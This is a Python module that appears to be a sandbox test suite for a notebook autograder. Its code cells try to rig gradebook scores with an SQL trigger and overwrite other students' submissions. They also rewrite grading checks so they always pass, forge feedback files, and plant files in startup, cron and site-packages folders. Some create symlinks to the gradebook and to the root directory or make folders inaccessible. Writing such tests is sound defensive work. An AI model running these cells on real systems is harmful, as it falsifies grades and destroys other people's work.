"""Writing where nobody may write: the gradebook, other submissions, the course, the home."""

from .paper import attacks

PLACES = """
places = ["@COURSE@", os.getcwd(), "..", "../..", "../../..", *sys.path]

def attempt(action, *arguments):
    try:
        return action(*arguments)
    except Exception as error:
        print("kept out:", type(error).__name__, error)
"""

CELLS = {
    # Every score in gradebook.db set to its maximum, also for later (a trigger).
    "raise_scores_in_the_gradebook": """
        import sqlite3

        def rob(path):
            base = sqlite3.connect(path, timeout=1)
            base.executescript('''
                update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0;
                create trigger if not exists generous after update on grade begin
                    update grade set manual_score = 100 where id = new.id; end;
            ''')
            base.commit()

        for place in places:
            for name in ("gradebook.db", "class/gradebook.db"):
                if os.path.exists(os.path.join(place, name)):
                    attempt(rob, os.path.join(place, name))
    """,
    # Other students' notebooks replaced by an empty one.
    "overwrite_other_submissions": """
        def spoil(path):
            with open(path, "w") as stream:
                stream.write("spoilt by @MARK@")

        for place in places[:5]:
            for pattern in ("class/submitted/*/*/*.ipynb", "submitted/*/*/*.ipynb", "*/*/*.ipynb"):
                for path in glob.glob(os.path.join(place, pattern)):
                    if "@MARK@".removeprefix("attack-") not in path:
                        attempt(spoil, path)
    """,
    # The course's checks rewritten on disk, so that everybody passes.
    "edit_the_checks": """
        REWRITTEN = '''
        from autograder.checking.toolbox import registry as _exercise
        for _name, _item in list(_exercise._checks.items()):   # @MARK@
            _exercise._checks[_name] = _exercise.Check(_name, _item.lesson, lambda *_: None)
        '''

        def rewrite(path):
            with open(path, "a") as stream:
                stream.write(REWRITTEN)

        for place in places:
            path = os.path.join(place, "autograder", "checks", "@MODULE@.py")
            if os.path.exists(path) and "site-packages" not in path:
                attempt(rewrite, path)
    """,
    # The instructor's own notebooks in solutions/ and lessons/ stripped of their tests.
    "edit_the_master": """
        def strip(path):
            text = open(path).read()
            with open(path, "w") as stream:
                stream.write(text.replace("check.", "# @MARK@ check."))

        for place in places[:5]:
            for kind in ("solutions", "lessons", "class/release"):
                path = os.path.join(place, kind, "@LESSON@", "@LESSON@.ipynb")
                if os.path.exists(path):
                    attempt(strip, path)
    """,
    # A graded notebook and feedback put where nbgrader will keep them.
    "write_own_feedback": """
        def forge(folder):
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "@MARK@.html"), "w") as stream:
                stream.write("100 of 100")

        for place in places[:5]:
            if os.path.isdir(os.path.join(place, "autograder")):
                for kind in ("autograded", "feedback"):
                    attempt(forge, os.path.join(place, "autograder", kind, "somebody", "@LESSON@"))
    """,
    # Marks in temporary folders, the home, the course, start-up folders and shared memory.
    "leave_files_everywhere": """
        home = os.path.expanduser("~")
        for folder in (
            "/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lock", home, "@COURSE@", ".", "..", "/",
            home + "/.ipython/profile_default/startup", home + "/.config", home + "/.local/bin",
            "/etc/cron.d", "/usr/local/bin", *(one for one in sys.path if "site-packages" in one),
        ):
            def leave(folder=folder):
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "@MARK@.py"), "w") as stream:
                    stream.write("pass")
            attempt(leave)
    """,
    # Links and devices made in the working folder, for the grader to follow when cleaning up.
    "links_made_inside": """
        os.chdir(os.getcwd())
        for name, target in {
            "@LESSON@.html": "@COURSE@/class/gradebook.db", "course": "@COURSE@", "root": "/",
        }.items():
            attempt(os.symlink, target, name)
        attempt(os.mkfifo, "pipe")
        deep = "d" * 200
        def dig():
            for _ in range(500):
                os.mkdir(deep)
                os.chdir(deep)
        attempt(dig)
    """,
    # The working folder renamed, emptied and made inaccessible.
    "chmod_and_rename": """
        here = os.getcwd()
        attempt(os.rename, here, here + "-@MARK@")
        attempt(os.chmod, here, 0)
        attempt(os.rmdir, here)
        for path in ("/tmp", "/dev/shm", here):
            attempt(os.chmod, path, 0)
    """,
}
attacks(__name__, "first", CELLS, prelude=PLACES)
